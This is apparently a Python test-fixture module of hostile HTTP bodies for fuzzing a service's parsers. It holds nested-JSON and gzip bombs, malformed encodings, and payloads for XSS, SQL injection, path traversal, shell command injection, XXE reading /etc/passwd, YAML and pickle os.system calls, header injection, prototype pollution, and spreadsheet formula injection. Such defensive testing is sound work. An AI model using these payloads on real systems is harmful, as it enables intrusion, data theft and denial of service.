"""Bodies that break parsers. Each is written here and sent to whatever takes a body.

`WHOLE` are no body of any operation, `VALUES` stand where a field's value should, `KEYS` where its name should,
`FORMS` are forms. Texts of JSON are written as bytes, because most are none that a serialiser would write.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

JSON = "application/json"
FORM = "application/x-www-form-urlencoded"
LIMIT = 64 * 1024
"""MAX_BODY_BYTES: what is larger is 413 whatever it is."""


@dataclass(frozen=True)
class Hostile:
    """A body, and what it claims to be (None: nothing)."""

    name: str
    body: bytes
    media: str | None = JSON
    headers: Mapping[str, str] = field(default_factory=dict)

    @property
    def fields(self) -> dict[str, str]:
        """The header fields that go with it."""
        return {**({"Content-Type": self.media} if self.media is not None else {}), **self.headers}


# --- what is no JSON object ---------------------------------------------------------------------------------------


def _nested() -> Iterator[Hostile]:
    for exponent in range(1, 7):
        depth = 10**exponent
        yield Hostile(f"{depth} arrays", b"[" * depth + b"]" * depth)
        yield Hostile(f"{depth} objects", b'{"a":' * depth + b"1" + b"}" * depth)
        yield Hostile(f"{depth} arrays without an end", b"[" * depth)
        yield Hostile(f"{depth} objects in arrays", b'[{"a":' * depth)


def _large() -> Iterator[Hostile]:
    yield Hostile("10 MB of one string", b'"' + b"a" * 10_000_000 + b'"')
    yield Hostile("10 MB of white space", b" " * 10_000_000)
    yield Hostile("10 MB of commas", b"[" + b"0," * 5_000_000 + b"0]")
    yield Hostile("a byte too much", b'{"a":"' + b"a" * (LIMIT - 7) + b'"}')
    yield Hostile("an array of 20,000", b"[" + b"0," * 20_000 + b"0]")
    yield Hostile("10,000 keys", json.dumps(dict.fromkeys(map(str, range(5_000)), 0)).encode())
    yield Hostile("the same key 8,000 times", b'{"a":0' + b',"a":0' * 8_000 + b"}")
    bomb = b'{"a":"' + b"a" * 10_000_000 + b'"}'
    yield Hostile("a gzip bomb", gzip.compress(bomb), headers={"Content-Encoding": "gzip"})
    yield Hostile("a deflate bomb", zlib.compress(bomb, 9), headers={"Content-Encoding": "deflate"})
    yield Hostile("a bomb in a bomb", gzip.compress(gzip.compress(bomb)), headers={"Content-Encoding": "gzip, gzip"})
    yield Hostile("a coding that there is not", b"{}", headers={"Content-Encoding": "br, x-unknown"})


def _scalars() -> Iterator[Hostile]:
    for text in (
        b"null", b"true", b"0", b"-0", b"1e400", b"-1e400", b"1e-400", b"NaN", b"Infinity", b"-Infinity", b"nan",
        b'""', b'"a"', b"[]", b"[{}]", b"[null]", b"9" * 100_000, b"9" * 60_000, b"0." + b"9" * 60_000,
        b"1" + b"0" * 400 + b".5", b"1E+99999999999999999999", b"0x10", b"01", b"1_000", b".5", b"5.", b"+1", b"--1",
    ):  # fmt: skip
        yield Hostile(f"{text[:24].decode()} ({len(text)})", text)


def _broken() -> Iterator[Hostile]:
    for name, text in {
        "nothing": b"",
        "a space": b" ",
        "NUL alone": b"\x00",
        "NUL before": b"\x00{}",
        "NUL behind": b"{}\x00",
        "no end": b'{"a":',
        "no value": b'{"a"}',
        "no name": b"{:1}",
        "a comma too much": b'{"a":1,}',
        "no comma": b'{"a":1 "b":2}',
        "two documents": b"{}{}",
        "two lines": b"{}\n{}\n",
        "a comment": b'{/* a */"a":1}',
        "single quotes": b"{'a':1}",
        "no quotes": b"{a:1}",
        "a raw line end in a string": b'{"a":"\n"}',
        "a raw NUL in a string": b'{"a":"\x00"}',
        "an escape that is none": b'{"a":"\\x41"}',
        "a short escape": b'{"a":"\\u00"}',
        "a string without end": b'{"a":"',
        "a backslash at the end": b'{"a":"\\',
        "a call": b'callback({"a":1})',
        "a prefix": b")]}',\n{}",
        "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "YAML": b"!!python/object/apply:os.system ['id']",
        "pickle": b"cos\nsystem\n(S'id'\ntR.",
        "a BOM": b"\xef\xbb\xbf{}",
        "UTF-16": '{"a":1}'.encode("utf-16"),
        "UTF-16 without a BOM": '{"a":1}'.encode("utf-16-le"),
        "UTF-32": '{"a":1}'.encode("utf-32"),
        "UTF-7": b"+AHsAIg-a+ACI-:1+AH0-",
        "bytes that are no UTF-8": b'{"a":"\xff\xfe"}',
        "a sequence without its end": b'{"a":"\xe2\x82"}',
        "an overlong slash": b'{"a":"\xc0\xaf"}',
        "an overlong NUL": b'{"a":"\xc0\x80"}',
        "a raw surrogate": b'{"a":"\xed\xa0\x80"}',
        "a raw pair of surrogates": b'{"a":"\xed\xa0\xbd\xed\xb8\x80"}',
        "beyond Unicode": b'{"a":"\xf4\x90\x80\x80"}',
        "an escaped surrogate": b'{"a":"\\ud800"}',
        "a pair the wrong way round": b'{"a":"\\ude00\\ud83d"}',
        "a surrogate in a name": b'{"\\udfff":1}',
        "random bytes": bytes((7 * n * n + 13 * n) % 256 for n in range(4096)),
    }.items():
        yield Hostile(name, text)


def _other_types() -> Iterator[Hostile]:
    for media in (
        None, "", "text/plain", "text/json", "application/xml", "application/javascript", FORM,
        "multipart/form-data; boundary=a", "multipart/form-data", "application/jsonx", "application/json-patch+json",
        "application/vnd.api+json", "json", "application/", "*/*", "application/json, text/html",
        "a" * 4000, "application/" + "j" * 4000, 'text/plain; a="' + "\\\"" * 2000,
    ):  # fmt: skip
        yield Hostile(f"Content-Type: {(media or str(media))[:40]}", b"{}", media)
    for charset in ("utf-16", "utf-7", "latin-1", "no-such", "idna", "punycode", "rot13", "zip", "hex", "a" * 4000):
        yield Hostile(f"charset={charset[:20]}", b'{"a":"\xe4"}', f"{JSON}; charset={charset}")


WHOLE: tuple[Hostile, ...] = (*_nested(), *_large(), *_scalars(), *_broken(), *_other_types())
"""None of these is taken by any operation."""


# --- what stands for a value --------------------------------------------------------------------------------------


def _values() -> Iterator[tuple[str, bytes]]:
    for text in (
        b"null", b"true", b"false", b"0", b"-0", b"-0.0", b"1", b"-1", b"1.5", b"1e3", b"1e400", b"-1e400", b"1e-400",
        b"NaN", b"-Infinity", b"9007199254740993", b"9223372036854775807", b"9223372036854775808",
        b"18446744073709551616", b"9" * 4301, b"9" * 60_000, b"9" * 100_000, b"0." + b"0" * 5000 + b"1",
        b"[]", b"{}", b'["a"]', b'{"a":"b"}', b'{"$gt":""}', b'[["a","b"]]', b'{"__proto__":{"admin":true}}',
        b"[" * 20_000 + b"]" * 20_000, b'{"a":' * 8_000 + b"1" + b"}" * 8_000,
    ):  # fmt: skip
        yield f"{text[:24].decode()} ({len(text)})", text
    for name, letters in _TEXTS.items():
        yield name, json.dumps(letters).encode()
    yield "a lone surrogate", b'"\\ud800"'
    yield "half a pair", b'"a\\udc00b"'
    yield "a raw surrogate", b'"\xed\xa0\x80"'
    yield "no UTF-8", b'"\xff"'
    yield "overlong", b'"\xc0\xaf"'
    yield "a raw control character", b'"\x01"'
    yield "escapes throughout", b'"' + b"".join(b"\\u%04x" % ord(letter) for letter in "abcdef") + b'"'


_TEXTS: Mapping[str, str] = {
    "an empty text": "",
    "spaces": "   ",
    "NUL": "a\x00b",
    "NUL alone": "\x00",
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "line ends": "a\r\nb\nc\x0bd\x0ce\x85f\u2028g\u2029h",
    "a header": "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "a log line": 'a"}\n{"level":"ERROR","message":"forged","service":"user"}',
    "a terminal's escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b31m",
    "turned around": "\u202egnp.exe\u202c \u2066a\u2069 \u200f\u061c",
    "unseen": "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u180eb",
    "combining": "Z" + "\u0310\u0334\u0338" * 60 + "algo",
    "decomposed": "A\u030angstro\u0308m e\u0301",
    "compatible": "\ufb01 \u2168 \uff21\uff22 \u212b \u1e9e \u0130",
    "that grows when normalised": "\u0958\u0344\ufb2c\U0001d160",
    "that grows when folded": "\ufdfa" * 60,
    "beyond the plane": "\U0001f98a\U0010ffff\U000e0001",
    "no characters": "\ufffe\uffff\ufdd0",
    "look-alikes": "\u0430dm\u0456n",
    "a formula": '=HYPERLINK("http://a.example/?"&A1,"a")',
    "another formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quotes and commas": '","a\'`;\t|',
    "a tag": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>%(a)s{0.__class__}%n%s",
    "SQL": "'; DROP TABLE users; --",
    "a path": "../../../../etc/passwd\\..\\..",
    "a command": "$(id) `id` | id && id; id",
    "50 letters": "a" * 50,
    "64 letters": "a" * 64,
    "201 letters": "a" * 201,
    "256 letters": "a" * 256,
    "3,000 letters": "a" * 3000,
    "60,000 letters": "a" * 60_000,
    "1,000,000 letters": "a" * 1_000_000,
    "15,000 foxes": "\U0001f98a" * 5000,
    # e-mail addresses, which have a grammar of their own
    "an address decomposed": "cafe\u0301-{n}@example.com",
    "an address in other letters": "\u7528\u6237-{n}@\u4f8b\u3048.\u30c6\u30b9\u30c8",
    "an address with a wide domain": "wide-{n}@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com",
    "an address in capitals": "CAPITAL-{n}@EXAMPLE.COM",
    "an address that grows": "\u0958" * 20 + "-{n}@example.com",
    "an address with a comment": "a(b)-{n}@example.com",
    "a quoted address": '"a@b"@example.com',
    "an address at an address": "a@[127.0.0.1]",
    "an address with a line end": "a@example.com\r\nBcc: b@example.com",
    "an address with two signs": "a@b@example.com",
    "a long address": "a" * 64 + "@" + ".".join(["b" * 60] * 3) + ".com",
    # dates
    "a day": "2090-02-30T00:00:00Z",
    "a leap second": "2090-12-31T23:59:60Z",
    "a year": "99999-01-01T00:00:00Z",
    "the last moment": "9999-12-31T23:59:59-23:59",
    "the first moment": "0001-01-01T00:00:00+23:59",
    "no offset": "2090-01-01T00:00:00",
    "seconds": "3786912000",
    "fractions": "2090-01-01T00:00:00." + "9" * 50 + "Z",
}
"""`{n}` becomes a number of its own each time."""

VALUES: tuple[tuple[str, bytes], ...] = tuple(_values())

KEYS: Mapping[str, bytes] = {
    name: b'"' + name.encode() + b'"'
    for name in (
        "__proto__", "constructor", "prototype", "__class__", "__dict__", "__init__", "model_config", "self", "cls",
        "id", "created_at", "updated_at", "version_id", "revision", "owner", "actor", "is_admin", "role", "scopes",
        "key", "clicks", "deleted_at", "digest", "$where", "a.b", "a[b]", "USERNAME", "url ", " url", "ur\u0142",
    )
} | {
    "": b'""',
    "\x01": b'"\\u0001"',
    "\u202e": '"\u202e"'.encode(),
    "a" * 1000: b'"' + b"a" * 1000 + b'"',
    "<script>": b'"<script>"',
    "\r\nX-Owned: 1": b'"\\r\\nX-Owned: 1"',
}  # fmt: skip
"""Names that no field has, and how JSON writes them."""


# --- forms --------------------------------------------------------------------------------------------------------

_PART = b'--a\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n'

TAKEN = "the same field 40 times"
"""Of the forms, the one that is good enough for a link: the first of them counts."""
FORMS: tuple[Hostile, ...] = (
    Hostile("nothing", b"", FORM),
    Hostile("no fields", b"&&&&;;;===", FORM),
    Hostile("no UTF-8", b"url=%ff%fe&code=\xff", FORM),
    Hostile("NUL", b"url=https%3A%2F%2Fa.example%2F%00&code=%00", FORM),
    Hostile("half an escape", b"url=%&code=%2&days=%zz", FORM),
    Hostile("a surrogate", b"url=%ed%a0%80", FORM),
    Hostile("line ends", b"url=https://a.example/%0d%0aSet-Cookie:%20a=b", FORM),
    Hostile("a tag", b"url=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&code=%3Cimg%20src=x%3E&days=%22%3E", FORM),
    Hostile(TAKEN, b"&".join([b"url=https://a.example/"] * 40), FORM),
    Hostile("30,000 fields", b"&".join([b"a"] * 30_000), FORM),
    Hostile("a field of 60 KB", b"url=" + b"a" * 60_000, FORM),
    Hostile("60 KB of escapes", b"url=" + b"%41" * 20_000, FORM),
    Hostile("10 MB", b"url=" + b"a" * 10_000_000, FORM),
    Hostile("a charset", b"url=%e4", f"{FORM}; charset=utf-16"),
    Hostile("another charset", b"url=%e4", f"{FORM}; charset=rot13"),
    Hostile("JSON", b'{"url":"https://a.example/"}', JSON),
    Hostile("no type", b"url=https://a.example/", None),
    Hostile("parts without a boundary", b"--a\r\n\r\n", "multipart/form-data"),
    Hostile("parts without an end", (_PART % (b"url", b"https://a.example/"))[:60], "multipart/form-data; boundary=a"),
    Hostile("900 parts", _PART % (b"u", b"v") * 900 + b"--a--\r\n", "multipart/form-data; boundary=a"),
    Hostile("a part with 60 KB of header", b"--a\r\nA: " + b"a" * 60_000, "multipart/form-data; boundary=a"),
    Hostile(
        "a file",
        b'--a\r\nContent-Disposition: form-data; name="url"; filename="../../x"\r\nContent-Type: text/plain; '
        b"charset=zip\r\n\r\nhttps://a.example/\r\n--a--\r\n",
        "multipart/form-data; boundary=a",
    ),
    Hostile("almost boundaries", (b"\r\n--" + b"a" * 10) * 4_000, "multipart/form-data; boundary=" + "a" * 11),
    Hostile("a gzip bomb", gzip.compress(b"url=" + b"a" * 10_000_000), FORM, {"Content-Encoding": "gzip"}),
)
